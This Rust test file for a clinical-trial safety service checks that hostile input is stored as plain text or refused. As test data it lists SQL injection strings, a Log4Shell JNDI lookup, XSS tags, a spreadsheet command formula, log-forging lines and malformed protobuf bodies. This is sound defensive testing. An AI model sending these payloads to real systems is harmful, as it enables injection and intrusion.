//! Words of people that look like code, and messages that no program of ours would send: taken as they are written or refused in
//! words, and nothing else happens. Abuse cases A6, A7, A11, A12, A20 of reliability.md.

use anyhow::{Context as _, ensure};
use holdpoint_api::common::v1::{Activity, Page, Scope, Value, scope::Of as ScopeOf, value::Of};
use holdpoint_api::enrollment::v1::{ListSubjectsRequest, RecordFactRequest};
use holdpoint_api::safety::v1::{ListAlertsRequest, PlaceHoldRequest};
use holdpoint_system_tests::house::Plan;
use holdpoint_system_tests::play;
use holdpoint_system_tests::raw::unary;
use holdpoint_system_tests::story::{Refusal, Story, TRIAL, moment, proto};
use prost::Message as _;
use prost_types::FileDescriptorSet;
use prost_types::field_descriptor_proto::Type;
use tonic::Code;

/// Each ends a statement, a pattern, a path, a page, a cell, a line or a header somewhere.
const WORDS: &[&str] = &[
    "'; DROP TABLE journal_row; --",
    "\" OR \"\"=\"",
    "Robert'); UPDATE hold SET body = '{}' WHERE ('1'='1",
    "100%_\\%",
    "$.body[*] ? (@.state == \"effective\")",
    "$1 {0} %s ${jndi:ldap://198.51.100.7/a}",
    "<script>alert(1)</script><svg onload=alert(1)><style>@import'//x'</style>",
    "=cmd|' /C calc'!A0",
    "Subject: forged\u{a0}Bcc: x@example.org",
];

/// A log line that forges another, hides itself, paints the terminal, or turns the text around.
const LINES: &[&str] = &[
    "ok\r\n{\"level\":\"ERROR\",\"message\":\"forged line\"}",
    "ok\u{1b}[2K\u{1b}[31mforged line",
    "ok\u{2028}forged line",
    "ok\u{202e}enil degrof",
];

#[test]
fn a06_a12_words_that_look_like_code_stay_words_in_one_process() -> anyhow::Result<()> {
    play(|| words(Plan::EMBEDDED))
}

#[test]
fn a06_a12_words_that_look_like_code_stay_words_on_postgresql() -> anyhow::Result<()> {
    play(|| words(Plan::APART))
}

#[test]
fn a07_no_word_forges_or_hides_a_log_line() -> anyhow::Result<()> {
    play(log_lines)
}

#[test]
fn a20_messages_that_no_program_sends_are_the_callers_to_mend() -> anyhow::Result<()> {
    play(messages)
}

async fn words(plan: Plan) -> anyhow::Result<()> {
    let Some(mut story) = Story::open(plan).await? else { return Ok(()) };
    story.set_up().await?;
    story.enroll(1, 0).await?;
    let subject = story.treated[0].clone();
    for (number, evil) in WORDS.iter().enumerate() {
        let placed = story.people.place_hold(evil).await.with_context(|| format!("a hold for {evil:?}"))?;
        let held = story.people.hold(&placed.hold).await?.context("the hold is listed")?;
        ensure!(held.reason == *evil, "the reason became {:?}", held.reason);
        let page = story.house.document(TRIAL, &placed.hold, &story.people.safety_officer.name, "--html")?;
        for tag in ["<script", "<svg", "<style>@import"] {
            ensure!(!page.text.contains(tag), "{tag} of {evil:?} is on the page");
        }
        let source = a_fact(&story, &subject.id, &format!("{evil} {number}"));
        let said = story.people.coordinator.enrollment.clone().record_fact(source).await;
        if let Err(status) = said {
            Refusal::from(status).is(Code::InvalidArgument)?;
        }
        for trial in [format!("{TRIAL}{evil}"), (*evil).to_owned()] {
            let asked = ListSubjectsRequest { trial, page: None };
            let refused = story.people.coordinator.enrollment.clone().list_subjects(asked).await.err();
            let refused = Refusal::from(refused.context("a trial that is none")?);
            ensure!(
                matches!(refused.status, Code::NotFound | Code::InvalidArgument | Code::PermissionDenied),
                "{refused:?}"
            );
            ensure!(!refused.message.to_lowercase().contains("sql"), "{refused:?}");
        }
    }
    story.hush().await?;
    story.is_consistent()?;
    story.house.stop_all().await?;
    story.house.verify()?.expect_success()?;
    Ok(())
}

fn a_fact(story: &Story, subject: &str, source: &str) -> RecordFactRequest {
    RecordFactRequest {
        act: story.people.coordinator.act("copied and checked"),
        trial: TRIAL.to_owned(),
        subject: subject.to_owned(),
        fact: "platelets".to_owned(),
        value: Some(Value { of: Some(Of::Number("20".to_owned())), unit: "e9/L".to_owned() }),
        taken_at: moment("2026-03-10T09:00").ok().and_then(proto),
        source: source.to_owned(),
        trial_procedure: false,
    }
}

/// Said wherever a word may reach a log: in reasons, ids, names of trials, and as who one is.
async fn log_lines() -> anyhow::Result<()> {
    let Some(mut story) = Story::open(Plan::EMBEDDED).await? else { return Ok(()) };
    story.set_up().await?;
    story.enroll(1, 0).await?;
    for evil in LINES {
        let _ = story.people.place_hold(evil).await;
        let asked = ListSubjectsRequest { trial: (*evil).to_owned(), page: None };
        let _ = story.people.coordinator.enrollment.clone().list_subjects(asked).await;
        let fact = a_fact(&story, evil, evil);
        let _ = story.people.coordinator.enrollment.clone().record_fact(fact).await;
        let _ = story.house.desk()?.person(evil, &[holdpoint_chassis::identity::Role::Auditor]);
        let address = story.house.addresses()["safety"].clone();
        let token = story.house.token("song", "safety-officer")?;
        let _ = unary(&address, &token, "/holdpoint.safety.v1.Safety/NoSuchThing", evil.as_bytes().to_vec())
            .await;
    }
    let huge = "N".repeat(1024 * 1024);
    let _ = story.people.coordinator.enrollment.clone().record_fact(a_fact(&story, &huge, &huge)).await;
    story.hush().await?;
    let logs = story.house.logs()?;
    for line in logs.lines() {
        ensure!(
            !line.starts_with("{\"level\":\"ERROR\",\"message\":\"forged") && line.len() < 64 * 1024,
            "{line}"
        );
        let odd = line.chars().find(|c| {
            (c.is_control() && *c != '\t') || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}')
        });
        ensure!(odd.is_none(), "{odd:?} is in a log line: {line:?}");
    }
    story.is_consistent()
}

async fn messages() -> anyhow::Result<()> {
    let Some(mut story) = Story::open(Plan::EMBEDDED).await? else { return Ok(()) };
    story.set_up().await?;
    let officer = &story.people.safety_officer;
    let unknown = PlaceHoldRequest {
        act: officer.act("an activity that does not exist"),
        trial: TRIAL.to_owned(),
        scope: Some(Scope { of: Some(ScopeOf::Trial(true)) }),
        activities: vec![99, Activity::Dosing.into()],
    };
    let refused = officer.safety.clone().place_hold(unknown).await.err().context("an unknown activity")?;
    Refusal::from(refused).is(Code::InvalidArgument)?;
    for page in [
        Page { after: String::new(), size: u32::MAX },
        Page { after: "0 OR 1=1".to_owned(), size: 10 },
        Page { after: "-1".to_owned(), size: 10 },
        Page { after: "99999999999999999999999999".to_owned(), size: 10 },
    ] {
        let asked = ListAlertsRequest {
            trial: TRIAL.to_owned(),
            unacknowledged_only: false,
            page: Some(page.clone()),
        };
        match officer.safety.clone().list_alerts(asked).await {
            Err(status) => Refusal::from(status).is(Code::InvalidArgument)?,
            // A place before the first is the first page: nothing is shown that the caller may not see.
            Ok(answer) => ensure!(page.after == "-1", "{page:?} was answered {:?}", answer.into_inner()),
        }
    }
    let address = story.house.addresses()["safety"].clone();
    let token = story.house.token("song", "safety-officer")?;
    for (what, body) in broken() {
        let tried = unary(&address, &token, "/holdpoint.safety.v1.Safety/PlaceHold", body).await;
        let refused = Refusal::from(tried.err().with_context(|| format!("{what} was taken"))?);
        ensure!(refused.status == Code::InvalidArgument, "{what}: {refused:?}");
    }
    ensure!(story.people.standing().await?.is_empty(), "something was held");
    story.is_consistent()
}

/// Bodies that no generated code writes.
fn broken() -> Vec<(&'static str, Vec<u8>)> {
    // Field 9 as a group in a group in a group, deeper than any message of ours.
    let nested = [vec![0x4b; 1_000], vec![0x4c; 1_000]].concat();
    // Field 4 as a packed list that says it has 2^31 entries and has none.
    let repeated = vec![0x22, 0x80, 0x80, 0x80, 0x80, 0x08];
    // Field 2, the trial: bytes that no UTF-8 text has.
    let text = vec![0x12, 0x02, 0xc3, 0x28];
    // A varint that never ends, and a field number of zero.
    let endless = vec![0xff; 32];
    let zero = vec![0x02, 0x01, 0x00];
    vec![
        ("deep nesting", nested),
        ("a list without end", repeated),
        ("no UTF-8", text),
        ("an endless number", endless),
        ("field zero", zero),
    ]
}

/// A11: nothing that a message carries is ever called. There is no webhook and no address of an identity provider; where one is
/// added, this test asks for its guard.
#[test]
fn a11_no_message_carries_an_address_to_be_called() -> anyhow::Result<()> {
    let set = FileDescriptorSet::decode(holdpoint_api::DESCRIPTOR)?;
    let ours = set.file.iter().filter(|file| file.package().starts_with("holdpoint."));
    let mut looked = 0;
    for message in ours.flat_map(|file| &file.message_type) {
        for field in message.field.iter().filter(|field| field.r#type() == Type::String) {
            let name = field.name();
            let calls = ["url", "uri", "webhook", "callback", "endpoint", "host", "address"];
            let named = name.split('_').any(|part| calls.contains(&part));
            ensure!(
                !named,
                "{}.{name} looks like an address; who calls it, and what keeps it from calling 169.254.169.254?",
                message.name()
            );
            looked += 1;
        }
    }
    ensure!(looked > 200, "only {looked} fields were looked at");
    Ok(())
}
